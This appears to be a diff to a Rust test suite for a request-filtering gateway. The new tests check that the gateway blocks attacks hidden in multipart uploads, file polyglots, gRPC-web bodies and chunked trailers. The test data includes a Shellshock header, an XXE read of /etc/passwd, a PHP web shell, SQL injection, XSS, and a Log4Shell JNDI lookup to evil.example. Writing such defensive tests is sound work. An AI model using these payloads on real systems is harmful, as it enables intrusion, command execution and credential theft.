@@ -7,6 +7,7 @@ use std::thread;
 use std::time::Duration;
 
 use portcullis_tests::client::{Call, call_h2};
+use portcullis_tests::files::{GZIP, PDF, PNG, ZIP};
 use portcullis_tests::gateway::Gateway;
 use portcullis_tests::idp::Idp;
 use portcullis_tests::introspection::{Client as Caller, Introspector};
@@ -99,6 +100,40 @@ fn an_attack_is_refused_wherever_it_stands() {
     world.refuses_attack(&Call::get("/api").header("user-agent", "() { :; }; /bin/bash -c id"));
     let entity = "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
     world.refuses_attack(&Call::new("POST", "/api").header("content-type", "text/xml").body(entity));
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn no_part_hides_behind_a_file() {
+    let world = World::start();
+    let pad = "x".repeat(520);
+    let send = |kind: &str, head: &str, content: &str| {
+        let body = format!(
+            "--good\r\ncontent-disposition: form-data; {head}\r\ncontent-type: image/png\r\n\r\n{pad}\r\n{content}\r\n--good--\r\n"
+        );
+        Call::new("POST", "/api").header("content-type", &format!("multipart/form-data; {kind}")).body(body)
+    };
+    let good = "boundary=good";
+    // Every reader takes this for a file, of which nobody asks what it says.
+    assert_eq!(world.call(&send(good, "name=\"q\"; filename=\"x.png\"", SCRIPT)).status, 200);
+    for head in [
+        "name=\"q\"; filename=\"x.png\"; filename=\"\"",
+        "name=\"q\"; x=a\"; filename=z.png; y=b\"",
+        "name=\"q\"; x'=1; filename=\"a.png\"; y'=2",
+        "name=\"q\"\r\ncontent-disposition: form-data; name=\"q\"; filename=\"x.png\"",
+        "name=\"q\"; filename=\"x.png\"\r\ncontent-disposition: form-data; name=\"q\"",
+    ] {
+        world.refuses_attack(&send(good, head, SCRIPT));
+    }
+    let evil = format!("--evil\r\ncontent-disposition: form-data; name=\"q\"\r\n\r\n{SCRIPT}\r\n--evil--");
+    let file = "name=\"q\"; filename=\"x.png\"";
+    assert_eq!(world.call(&send(good, file, &evil)).status, 200);
+    for kind in ["xboundary=evil; boundary=good", "x=boundary=evil; boundary=good"] {
+        world.refuses_attack(&send(kind, file, &evil));
+    }
+    for charset in ["charset*=utf-7", "charset =utf-7", "charset=utf-7"] {
+        world.refuses_attack(&send(&format!("boundary=good; {charset}"), file, "+ADw-script+AD4-alert(1)"));
+    }
     world.gateway.check_unharmed().unwrap();
 }
 
@@ -243,7 +278,13 @@ fn in_monitor_mode_everything_passes_and_the_log_has_the_exception() {
         (&json!("request_monitored"), &json!("payload_attack"))
     );
     let message = event["message"].as_str().unwrap();
-    assert!(message.contains(r#"except: [{parameter: "html", families: [xss]}]"#), "{message}");
+    assert!(message.contains("except: [{place: json, parameter: html, families: [xss]}]"), "{message}");
+    let finding = &event["portcullis.payload"][0];
+    assert_eq!(
+        (&finding["family"], &finding["place"], &finding["parameter"]),
+        (&json!("xss"), &json!("json"), &json!("html"))
+    );
+    assert_eq!(finding["exception"], json!({"except": [{"place": "json", "parameter": "html", "families": ["xss"]}]}));
     assert!(!message.contains("document.cookie"), "{message}");
     let watched = || world.gateway.counter("portcullis_payload", &[("rule", "watched")]).unwrap();
     assert!(eventually(Duration::from_secs(5), || watched() > 0));
@@ -295,6 +336,83 @@ fn streams_are_not_waited_for() {
     client.send(&json_body("{}").header("transfer-encoding", "chunked").to_bytes()).unwrap();
     drop(client);
     assert_eq!(world.call(&json_body("{}")).status, 200);
+    world.gateway.check_unharmed().unwrap();
+}
+
+/// A text field, and a file that says what it is, or does not.
+fn upload(path: &str, note: &str, kind: &str, file: &[u8]) -> Call {
+    let kind = if kind.is_empty() { String::new() } else { format!("content-type: {kind}\r\n") };
+    let start = format!(
+        "--b\r\ncontent-disposition: form-data; name=\"note\"\r\n\r\n{note}\r\n\
+         --b\r\ncontent-disposition: form-data; name=\"f\"; filename=\"O'Brien.bin\"\r\n{kind}\r\n"
+    );
+    let body = [start.as_bytes(), file, b"\r\n--b--\r\n"].concat();
+    Call::new("POST", path).header("content-type", "multipart/form-data; boundary=b").body(body)
+}
+
+#[test]
+fn files_arrive_and_attacks_beside_and_in_them_do_not() {
+    let world = World::start();
+    let raw = |path: &str, kind: &str, body: &[u8]| Call::new("PUT", path).header("content-type", kind).body(body);
+    for (kind, file) in [
+        ("image/png", PNG),
+        ("application/pdf", PDF),
+        ("application/gzip", GZIP),
+        ("application/octet-stream", ZIP),
+        ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", ZIP),
+    ] {
+        let polyglot = [file, b"<?php system($_GET['c']); ?>"].concat();
+        let form = [file, b"&q=1' union select password from users-- "].concat();
+        // In full, and where only the beginning is judged.
+        let long = [file, &[0x90; 1500]].concat();
+        for path in ["/api", "/api/start"] {
+            world.passes(&raw(path, kind, file));
+            assert_eq!(world.service.requests().last().unwrap().body, file);
+            world.passes(&upload(path, "it's fine", kind, file));
+            world.passes(&upload(path, "it's fine", "", file));
+            world.passes(&raw(path, kind, &long));
+            world.refuses_attack(&upload(path, SCRIPT, kind, file));
+            world.refuses_attack(&raw(path, kind, &polyglot));
+            world.refuses_attack(&raw(path, kind, &form));
+            world.refuses_attack(&upload(path, "1", kind, &polyglot));
+            world.refuses_attack(&upload(path, "1", "", &polyglot));
+        }
+        world.refuses_attack(&raw("/api", "application/x-www-form-urlencoded", &[file, b"\0"].concat()));
+    }
+    for disguised in [&b"{\"\xff\": 1, \"q\": \"<script>alert(1)</script>\"}"[..], b"\0q=<script>alert(1)</script>"] {
+        world.refuses_attack(&raw("/api", "image/png", disguised));
+    }
+    let h2 = call_h2(world.gateway.port(), None, &raw("/api", "image/png", PNG)).unwrap();
+    assert_eq!((h2.status, &world.service.requests().last().unwrap().body[..]), (200, PNG));
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn calls_of_grpc_web_are_read() {
+    let world = World::start();
+    for kind in ["application/grpc-web", "application/grpc-web+proto"] {
+        let call = |body: Vec<u8>| Call::new("POST", "/api/Find").header("content-type", kind).body(body);
+        world.passes(&call(message("O'Brien & Sons")));
+        world.refuses_attack(&call(message(SCRIPT)));
+        world.refuses_attack(&call([message("tea"), message(SCRIPT)].concat()));
+    }
+    let call =
+        |body: &[u8]| Call::new("POST", "/api/write").header("content-type", "application/x-protobuf").body(body);
+    world.passes(&call(&message("tea")[5..]));
+    world.refuses_attack(&call(&message(SCRIPT)[5..]));
+    world.gateway.check_unharmed().unwrap();
+}
+
+#[test]
+fn a_wrong_coding_opens_nothing_where_a_beginning_is_enough() {
+    let world = World::start();
+    for path in ["/api", "/api/start"] {
+        for coding in ["gzip", "deflate"] {
+            let form = Call::new("POST", path).header("content-type", "application/x-www-form-urlencoded");
+            let call = form.header("content-encoding", coding).body("q=1' union select password from users-- ");
+            world.refuses(&call, 400, "body_malformed");
+        }
+    }
     world.gateway.check_unharmed().unwrap();
 }
 
@@ -368,4 +486,48 @@ fn a_grpc_call_that_is_held_for_its_caller_is_judged_with_what_came_meanwhile() 
 
 fn chunk(bytes: &[u8]) -> Vec<u8> {
     [format!("{:x}\r\n", bytes.len()).as_bytes(), bytes, b"\r\n"].concat()
+}
+
+#[test]
+fn trailers_are_judged_with_the_body_that_they_end() {
+    let world = World::start();
+    let attack = "${jndi:ldap://evil.example/a}";
+    let call = |path: &str| Call::new("POST", path).header("content-type", "application/json");
+    let ended = |call: Call, body: &[&[u8]], trailers: &str| {
+        world.call_in_chunks(call, body.iter().copied(), format!("0\r\n{trailers}\r\n").as_bytes())
+    };
+    let before = world.seen();
+    // Behind a body, and behind none.
+    for body in [&[&b"{\"q\": 1}"[..]][..], &[]] {
+        let response = ended(call("/api"), body, &format!("x-note: {attack}\r\n"));
+        refusal::check(&response, 403, "payload_attack").unwrap();
+        let event = world.audit_of(&response);
+        assert!(event["message"].as_str().unwrap().contains("lookup-jndi in header \"x-note\""), "{event}");
+    }
+    let response =
+        ended(call("/api"), &[b"{\"q\": 1}"], &format!("x-checksum: 1\r\nreferer: http://a/?q={attack}\r\n"));
+    refusal::check(&response, 403, "payload_attack").unwrap();
+    // Of a request that is held for its caller, whose body and trailers come before the provider's word, and after it.
+    for (token, pause) in [("trailers-1", Duration::ZERO), ("trailers-2", ASKED * 2)] {
+        world.introspector.activate(token, json!({"sub": "alice"}));
+        let held = call("/api/held").bearer(token).header("transfer-encoding", "chunked");
+        let mut client = world.connect();
+        client.send(&held.to_bytes()).unwrap();
+        thread::sleep(pause);
+        let response = client.raw(format!("2\r\n{{}}\r\n0\r\nx-note: {attack}\r\n\r\n").as_bytes()).unwrap();
+        refusal::check(&response, 403, "payload_attack").unwrap();
+    }
+    assert_eq!(world.seen(), before, "no head went ahead of its trailers");
+    // Watched, and what is no attack.
+    let watched = ended(call("/api/watched"), &[b"{}"], &format!("x-note: {attack}\r\n"));
+    assert_eq!(watched.status, 200);
+    assert_eq!(world.audit_of(&watched)["event.action"], json!("request_monitored"));
+    for trailers in ["x-checksum: 1\r\n", "server-timing: db;dur=53\r\nx-note: it's 5 < 7\r\n"] {
+        let response = ended(call("/api"), &[b"{\"q\"", b": 1}"], trailers);
+        assert_eq!(response.status, 200, "{trailers}: {}", response.text());
+        assert_eq!(world.service.requests().last().unwrap().body, &b"{\"q\": 1}"[..]);
+    }
+    world.introspector.activate("trailers-3", json!({"sub": "alice"}));
+    assert_eq!(ended(call("/api/held").bearer("trailers-3"), &[b"{}"], "x-checksum: 1\r\n").status, 200);
+    world.gateway.check_unharmed().unwrap();
 }
